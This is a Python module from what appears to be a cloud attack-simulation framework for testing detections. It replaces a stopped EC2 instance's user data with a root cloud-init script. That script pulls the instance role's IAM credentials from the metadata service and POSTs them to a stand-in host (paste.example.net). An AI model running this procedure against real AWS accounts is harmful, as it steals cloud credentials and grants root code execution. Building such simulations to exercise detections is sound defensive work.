"""Run code as root on an instance by replacing its user data while it is stopped."""

from __future__ import annotations

import base64

from botocore.exceptions import ClientError

from cloudsoc.aws.api import error_code
from cloudsoc.aws.session import client
from cloudsoc.simulate.technique import Ctx, Json, Technique, technique

# cloud-init runs user data on every boot when told to, so the script runs at the next start.
SCRIPT = b"""Content-Type: multipart/mixed; boundary="//"
MIME-Version: 1.0

--//
Content-Type: text/cloud-config; charset="us-ascii"

cloud_final_modules:
- [scripts-user, always]

--//
Content-Type: text/x-shellscript; charset="us-ascii"

#!/bin/bash
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/ | \\
  xargs -I{} curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/{} | \\
  curl -s -X POST --data-binary @- https://paste.example.net/upload
--//--
"""
FAST = {"Delay": 1, "MaxAttempts": 60}


@technique
class Ec2UserData(Technique):
    title = "Execute commands on an EC2 instance via user data"
    attack = ("T1059",)
    expects = ("ec2_instance_user_data_modified",)
    description = (
        "Stops an instance, replaces its user data with a script that cloud-init runs as root at every boot "
        "(here: sending the instance role's credentials out), and starts it again."
    )

    def warmup(self, ctx: Ctx) -> Json:
        ec2 = client("ec2", session=ctx.admin())
        image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        tags = [
            {"ResourceType": "instance", "Tags": [{"Key": "Name", "Value": f"{ctx.account}-report-worker"}]}
        ]
        inst = ec2.run_instances(ImageId=image, MinCount=1, MaxCount=1, InstanceType="t3.small",
                                 SubnetId=ctx.res["subnet"], IamInstanceProfile={"Name": "web-app-role"},
                                 TagSpecifications=tags)["Instances"][0]  # fmt: skip
        return {"instance": inst["InstanceId"]}

    def detonate(self, ctx: Ctx, state: Json) -> None:
        ec2 = client("ec2", session=ctx.attacker())
        ids = [state["instance"]]
        ec2.stop_instances(InstanceIds=ids, Force=True)
        ec2.get_waiter("instance_stopped").wait(InstanceIds=ids, WaiterConfig=FAST)
        # Unlike RunInstances, this call wants the script base64-encoded inside the blob.
        ec2.modify_instance_attribute(InstanceId=ids[0], UserData={"Value": base64.b64encode(SCRIPT)})
        ec2.start_instances(InstanceIds=ids)
        ec2.get_waiter("instance_running").wait(InstanceIds=ids, WaiterConfig=FAST)

    def revert(self, ctx: Ctx, state: Json) -> None:
        ec2 = client("ec2", session=ctx.admin())
        try:
            ec2.terminate_instances(InstanceIds=[state["instance"]])
        except ClientError as exc:
            if "NotFound" not in error_code(exc):
                raise
